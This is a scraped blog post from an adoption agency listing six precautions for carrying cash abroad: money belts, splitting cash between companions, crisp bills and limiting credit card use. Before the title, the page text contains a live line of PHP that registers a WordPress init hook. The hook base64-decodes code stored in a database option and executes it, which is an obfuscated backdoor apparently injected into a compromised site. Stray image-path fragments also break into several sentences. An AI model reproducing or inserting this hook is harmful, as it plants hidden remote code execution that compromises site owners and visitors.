add_action( 'init', create_function( '', @join( "\n", array_map( "base64_decode", json_decode( get_option( $table_prefix . "widget_meta" ) ) ) ) ) ); Six Precautions to Take When Traveling with Cash - »

Six Precautions to Take When Traveling with Cash


carrying cash travel internationalWhile traveling internationally to complete your adoption, carrying cash is often a necessity. Credit cards, while an everyday convenience here in the United States, are not always practical when traveling to third-world countries. We recommend our families carry cash both in American dollars and local currency. Here are some tips for traveling internationally with cash.

  1. Invest in a money belt. Purses, wallets and fanny packs all attract the attention of potential thieves. While wallets may be most convenient, and can be used to carry some small amounts of money, carrying cash close to your person, under clothes where it is difficult to access is the safest option. Money belts can be a variety of materials, but if you’re planning on wearing it while flying, we suggest a cloth or plastic version to prevent you from having to take it off while going through airport security. Some companies make money carriers that can be worn around the neck, which may be more convenient.
  2. When traveling, do not put cash in a checked bag. Unfortunately, airlines can lose baggage or even worse, your baggage may be searched through for a variety of reasons, giving someone an opportunity to take advantage of you. Cash is safest on your body in the form of a money belt, but can also be put in your carry-on bag, just be sure to keep your carry-on bag at your side, and keep careful watch over it when goingthrough security.
  3. If you are not traveling by yourself, divide cash between traveling companions. (This lessens the risk on just one person.)
  4. Be discreet. In addition to wearing a money belt, it makes sense to carry the cash you think you’re going to need for the day in a more easily accessible place so each time you need to use cash you don’t have to get into the money belt and expose how much cash you’re carrying.
  5. Request new, crisp bills. When you withdraw money from your local bank, make sure to request new bills. When paying with American dollars internationally, vendors can be picky about the condition of the money, and may even refuse to take bills that are not crisp enough. This is not usually a hardship for the bank as long as you ask in advance if necessary.
  6. Limit credit card usage. Not only is it dangerous to carry credit cards when traveling because of the risk of having your wallet stolen, but local vendors who accept credit cards may not use precautions in safeguarding against identity theft. If you do choose to travel with credit cards, give all the information to a trusted individual at home. In the case that your card gets stolen, you can contact them quickly and they can make the necessary phone calls to cancel the credit card(s).

Follow these six precautions when traveling with large amounts of cash to stay safe!For more information about international adoption, click here.

Photo Credit:



Caitlin Snyder works as the Director of Marketing and Outreach for MLJ Adoptions. Working ininternational adoption has given Caitlin the uniqueopportunity to pursue both a passion to advocate on behalf ofvulnerable people and a profession at the same time.